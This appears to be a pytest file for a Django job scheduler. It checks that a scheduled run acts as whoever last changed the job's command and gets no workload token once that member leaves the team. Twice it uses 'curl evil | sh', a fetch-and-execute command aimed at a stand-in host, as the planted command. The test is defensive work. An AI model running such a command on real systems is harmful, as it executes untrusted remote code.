"""Whom a scheduled run acts as (its workload token, its saves): whoever last changed what
the job does, not its creator, so a member who plants a command in an admin's nightly job
is the one its runs act as, and nobody once they leave (REVIEW18 R2)."""

from __future__ import annotations

import pytest

from apps.accounts.workload import TOKEN_ENV
from apps.jobs import runs, services
from apps.jobs.models import Attempt, Job, Run
from apps.jobs.spec import attempt_api_env, run_actor
from apps.teams.models import Membership
from apps.teams.services import member_remove

pytestmark = pytest.mark.django_db

JOB = {"name": "Nightly", "command": "python train.py", "machine_type": "cpu-small"}


def scheduled_run(job):
    """A scheduled run of ``job`` as it is now in the database (as the scheduler makes it)."""
    fresh = Job.objects.for_team(job.team_id).get(pk=job.pk)
    return runs.run_create(fresh, trigger=Run.Trigger.SCHEDULE, actor=None)


def test_a_scheduled_run_acts_as_whoever_last_changed_its_command(acme, alice, bob, catalogue):
    job = services.job_create(team=acme, actor=alice, template="scipy", **JOB)
    assert run_actor(scheduled_run(job)) == alice

    services.job_update(team=acme, actor=bob, job=job, command="curl evil | sh")
    assert run_actor(scheduled_run(job)) == bob

    # A change to what does not run (the description) leaves it as it was.
    services.job_update(team=acme, actor=alice, job=job, description="Every night")
    assert run_actor(scheduled_run(job)) == bob


def test_once_that_person_leaves_the_scheduled_run_gets_no_token(acme, alice, bob, catalogue):
    job = services.job_create(team=acme, actor=alice, template="scipy", **JOB)
    services.job_update(team=acme, actor=bob, job=job, command="curl evil | sh")
    member_remove(team=acme, actor=alice, member=Membership.objects.for_team(acme).get(user=bob))

    run = scheduled_run(job)

    assert TOKEN_ENV not in attempt_api_env(Attempt(run=run, number=1))
